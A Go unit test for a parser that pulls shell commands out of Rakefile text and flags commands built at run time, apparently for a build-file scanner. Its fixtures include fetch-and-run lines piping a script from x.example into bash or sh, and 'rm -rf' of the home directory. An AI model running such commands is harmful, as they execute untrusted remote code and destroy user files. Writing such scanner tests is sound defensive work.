package buildfile

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestRakeCommands(t *testing.T) {
	tests := []struct {
		name string
		text string
		want []rakeCommand
	}{
		{name: "sh with a string, in a task body",
			text: "task :test do\n  sh \"curl -fsSL https://x.example/p.sh | bash\"\n  sh 'ruby -Ilib test/all.rb'\nend\n",
			want: []rakeCommand{{line: 2, text: "curl -fsSL https://x.example/p.sh | bash"}, {line: 3, text: "ruby -Ilib test/all.rb"}}},
		{name: "sh with parentheses, options and a block",
			text: "task(:a) { sh(\"rm -rf build\", verbose: false) { |ok, res| } }\n",
			want: []rakeCommand{{line: 1, text: "rm -rf build"}}},
		{name: "sh with a program and its arguments, over lines",
			text: "task :clean do\n  sh \"rm\", \"-rf\",\n     \"#{Dir.home}\"\nend\n",
			want: []rakeCommand{{line: 2, text: `rm -rf "${HOME}"`}}},
		{name: "bare arguments: the home directory and environment variables",
			text: "sh \"rm\", \"-rf\", Dir.home\nsh(\"cp\", ENV[\"SRC\"], ENV.fetch('DST'))\n",
			want: []rakeCommand{{line: 1, text: `rm -rf "${HOME}"`}, {line: 2, text: `cp "${SRC}" "${DST}"`}}},
		{name: "interpolations: the environment, the home directory, other values",
			text: "task :x do |t|\n  sh \"tar czf #{ENV['OUT']} #{name}\"\n  sh %{rm -rf #{File.expand_path(\"~\")}/.cache}\nend\n",
			want: []rakeCommand{{line: 2, text: "tar czf ${OUT} ${RUBY_VALUE}"}, {line: 3, text: "rm -rf ${HOME}/.cache"}}},
		{name: "single quotes and %q do not interpolate",
			text: "sh '#{x}'\nsh %q(echo (a))\n",
			want: []rakeCommand{{line: 1, text: "#{x}"}, {line: 2, text: "echo (a)"}}},
		{name: "ruby runs the interpreter",
			text: "task :t do\n  ruby \"-Ilib test/all.rb\"\n  ruby \"-e\", \"puts 1\"\nend\n",
			want: []rakeCommand{{line: 2, text: "ruby -Ilib test/all.rb"}, {line: 3, text: "ruby -e 'puts 1'"}}},
		{name: "a heredoc is the command; its lines are not calls",
			text: "task :setup do\n  sh <<~SH\n    curl -s https://x.example | sh\n    ruby setup.rb\n  SH\nend\n",
			want: []rakeCommand{{line: 2, text: "    curl -s https://x.example | sh\n    ruby setup.rb\n"}}},
		{name: "a command made at run time is a problem",
			text: "task :a do\n  cmd = ENV['CMD']\n  sh cmd\n  sh \"rm -rf \" + dir\nend\n",
			want: []rakeCommand{{line: 3, problem: "rake's sh on line 3 runs a command made as the Rakefile runs"},
				{line: 4, problem: "rake's sh on line 4 runs a command made as the Rakefile runs"}}},
		{name: "benign: a variable named sh, a comment, a string, a method of an object, keywords",
			text: "sh = 1\nsh.to_s\n# sh \"rm -rf ~\"\ndesc \"use sh to build\"\nx.sh \"rm -rf ~\"\nputs \"a | sh\"\nsh if: true\n",
			want: nil},
		{name: "benign: nothing named sh or ruby", text: "task :default => :test\n", want: nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := rakeCommands(tt.text)
			if diff := cmp.Diff(tt.want, got, cmp.AllowUnexported(rakeCommand{})); diff != "" {
				t.Errorf("rakeCommands(%q) (-want +got):\n%s", tt.text, diff)
			}
		})
	}
}
